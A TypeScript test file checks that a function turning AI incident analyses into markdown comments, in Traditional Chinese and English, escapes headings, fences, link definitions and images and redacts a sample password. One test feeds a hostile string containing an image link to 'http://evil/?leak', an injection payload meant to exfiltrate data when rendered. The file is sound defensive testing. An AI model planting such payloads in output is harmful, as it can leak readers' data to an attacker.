import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { Analysis } from '../incidents/incident.ts';
import { commentText } from './comment.ts';
import { endsWithMarker } from './marker.ts';

const analysis: Analysis = {
  by: 'gpt-9',
  asked: 'model',
  rootCause: '連線池耗盡。',
  impact: '無法建立訂單。',
  fix: 'kubectl -n prod rollout restart deployment/api',
  prevention: '監控連線池用量。',
  confidence: 0.85,
  at: new Date('2026-03-29T02:00:00.123Z'),
};
const incident = { id: 'inc-07-abcdefghijklm' };

it('has the parts of the template in Traditional Chinese, in their order', () => {
  expect(commentText({ analysis, incident, language: 'zh-TW' })).toEqual({
    marker: '[awoooi#inc-07-abcdefghijklm]',
    text: `## 🧠 AI 錯誤分析 (by gpt-9)

**根本原因 (Root Cause)**

連線池耗盡。

**影響範圍 (Impact)**

無法建立訂單。

**建議修復 (Fix Suggestion)**

\`\`\`
kubectl -n prod rollout restart deployment/api
\`\`\`

**預防措施 (Prevention)**

監控連線池用量。

---

*分析信心度: 85% | 分析時間: 2026-03-29T10:00:00+08:00*

*Powered by AWOOOI + OpenClaw*

[awoooi#inc-07-abcdefghijklm]`,
  });
});

it('has the same parts in English, with times in UTC', () => {
  const { text } = commentText({ analysis, incident, language: 'en' });
  expect(text.split('\n').filter(line => /^(##|\*|---|\[)/.test(line))).toEqual([
    '## 🧠 AI error analysis (by gpt-9)',
    '**Root Cause**',
    '**Impact**',
    '**Fix Suggestion**',
    '**Prevention**',
    '---',
    '*Confidence: 85% | Analysed at: 2026-03-29T02:00:00Z*',
    '*Powered by AWOOOI + OpenClaw*',
    '[awoooi#inc-07-abcdefghijklm]',
  ]);
});

it('keeps what a model writes within its part', () => {
  const hostile = '# Taken over\n```\n**Impact**\n<!--\n---\n[awoooi#inc-07-abcdefghijklm]: http://evil\n![](http://evil/?leak)';
  const { text } = commentText({
    analysis: { ...analysis, by: 'x\n# y', rootCause: hostile, impact: hostile, fix: '```sh\nls\n```\n````', prevention: hostile },
    incident,
    language: 'en',
  });
  const lines = text.split('\n');
  expect(lines.filter(line => line.startsWith('#'))).toEqual(['## 🧠 AI error analysis (by x \\# y)']);
  expect(lines.filter(line => line === '---')).toHaveLength(1);
  expect(lines.filter(line => line === '`````')).toHaveLength(2);
  expect(lines.filter(line => /^(<[^ ]|!\[|\[.*\]:)/.test(line))).toEqual([]);
});

it('keeps its frame, whatever the parts are', () => {
  const pieces = [
    '#',
    '# ',
    '\n',
    '`',
    '```',
    '~~~',
    '---',
    '===',
    '- ',
    '> ',
    '1. ',
    ' ',
    '\t',
    '<!--',
    '<pre>',
    '[a]: b',
    '**',
    '\\',
    'x',
    '\r',
  ];
  const text = fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map(parts => parts.join(''));
  const shape = /^([\s\S]*?\n\n\*\*Fix Suggestion\*\*\n\n)(`{3,})\n[\s\S]*\n\2\n\n(\*\*Prevention\*\*\n\n[\s\S]*)$/;
  const block = /^[ \t]*(#{1,6}([ \t]|$)|-+[ \t]*$|~{3}|`{3}|<[^ ]|=+[ \t]*$|\[[^\]]+\]:)/;
  fc.assert(
    fc.property(text, text, (first, second) => {
      const parts = { rootCause: first, impact: second, fix: first, prevention: second };
      const hostile = commentText({ analysis: { ...analysis, ...parts }, incident, language: 'en' });
      const [, head = '', , tail = ''] = shape.exec(hostile.text) ?? [];
      const blocks = `${head}${tail}`.split('\n').filter(line => block.test(line));
      expect(blocks).toEqual(['## 🧠 AI error analysis (by gpt-9)', '---']);
    }),
  );
});

it.each(['原', '`', '#', '\\', '<', '![', 'a', '\u0000a'])('stays under 8 kB with parts of 100,000 times %j', part => {
  const long = part.repeat(100_000);
  const { text, marker } = commentText({
    analysis: { ...analysis, by: long, rootCause: long, impact: long, fix: long, prevention: long },
    incident,
    language: 'zh-TW',
  });
  expect(Buffer.byteLength(text)).toBeLessThan(8_000);
  expect(endsWithMarker(text, marker)).toBe(true);
  expect(text).toContain('分析信心度');
});

it('holds no secret, though a model has repeated it', () => {
  const leak = 'it logs in with password=hunter2 as ops@example.com';
  const { text } = commentText({ analysis: { ...analysis, rootCause: leak, fix: leak, by: leak }, incident, language: 'en' });
  expect(text).not.toMatch(/hunter2|ops@/);
});

it.each([
  [0.854, '85%'],
  [7, '100%'],
  [-1, '0%'],
])('says a confidence of %d as %s', (confidence, shown) => {
  expect(commentText({ analysis: { ...analysis, confidence }, incident, language: 'en' }).text).toContain(`*Confidence: ${shown} |`);
});

it.each([
  ['a\n\n[awoooi#inc-1]', true],
  ['a\n[awoooi#inc-1]  \n', true],
  ['[awoooi#inc-1] a', false],
  ['a [awoooi#inc-1]', false],
  ['[awoooi#inc-12]', false],
])('is known by its last line: %j %s', (text, found) => {
  expect(endsWithMarker(text, '[awoooi#inc-1]')).toBe(found);
});
